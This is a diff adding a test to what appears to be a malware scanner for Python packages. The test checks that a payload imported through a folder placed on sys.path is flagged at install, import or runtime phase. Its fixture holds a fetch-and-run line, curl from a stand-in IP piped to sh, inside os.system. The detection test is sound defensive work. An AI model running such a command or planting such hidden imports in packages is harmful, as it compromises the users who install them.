@@ -202,6 +202,41 @@ TEST_F(ScannerTest, ModuleImportedThroughAFolderLinkIsImportTimeCode) {
   }));
 }
 
+// A module that puts a folder of the package on sys.path and then imports a
+// module by its bare name runs that folder's file at its own time.
+TEST_F(ScannerTest, ModuleImportedFromAFolderPutOnSysPathRunsThen) {
+  const std::string payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n";
+  Scanner full(&testing::Rules(), {});
+  auto phase_of = [&](const std::string& tgz, const std::string& file) {
+    ScanResult r = full.ScanBytes("p-1.0.tar.gz", "p-1.0.tar.gz", tgz);
+    Phase p = Phase::kNone;
+    for (const Finding& f : r.findings)
+      if (f.file == file && f.rule == "download-exec") p = f.phase;
+    return p;
+  };
+  std::string setup = testing::MakeTar(
+      {File("p-1.0/setup.py",
+            "import sys\nsys.path.insert(0, 'tools')\nimport helper\n"
+            "from setuptools import setup\nsetup(name='p')\n"),
+       File("p-1.0/tools/helper.py", payload)});
+  EXPECT_EQ(phase_of(setup, "p-1.0/tools/helper.py"), Phase::kInstall);
+  std::string init = testing::MakeTar(
+      {File("p-1.0/setup.py", "from setuptools import setup\nsetup(name='p')\n"),
+       File("p-1.0/p/__init__.py",
+            "import os, sys\n"
+            "sys.path.append(os.path.join(os.path.dirname(__file__), 'vendor'))\n"
+            "from helper import main\n"),
+       File("p-1.0/p/vendor/helper.py", payload)});
+  EXPECT_EQ(phase_of(init, "p-1.0/p/vendor/helper.py"), Phase::kImport);
+  std::string other = testing::MakeTar(
+      {File("p-1.0/setup.py",
+            "import sys\nsys.path.insert(0, 'tools')\nimport helper\n"
+            "from setuptools import setup\nsetup(name='p')\n"),
+       File("p-1.0/lib/helper.py", payload)});
+  EXPECT_EQ(phase_of(other, "p-1.0/lib/helper.py"), Phase::kRuntime)
+      << "a folder not put on sys.path";
+}
+
 // A script the package installs on PATH (a wheel's .data/scripts/) that
 // import-time code starts by name is import-time Python; a file elsewhere
 // started by name is not read as Python.
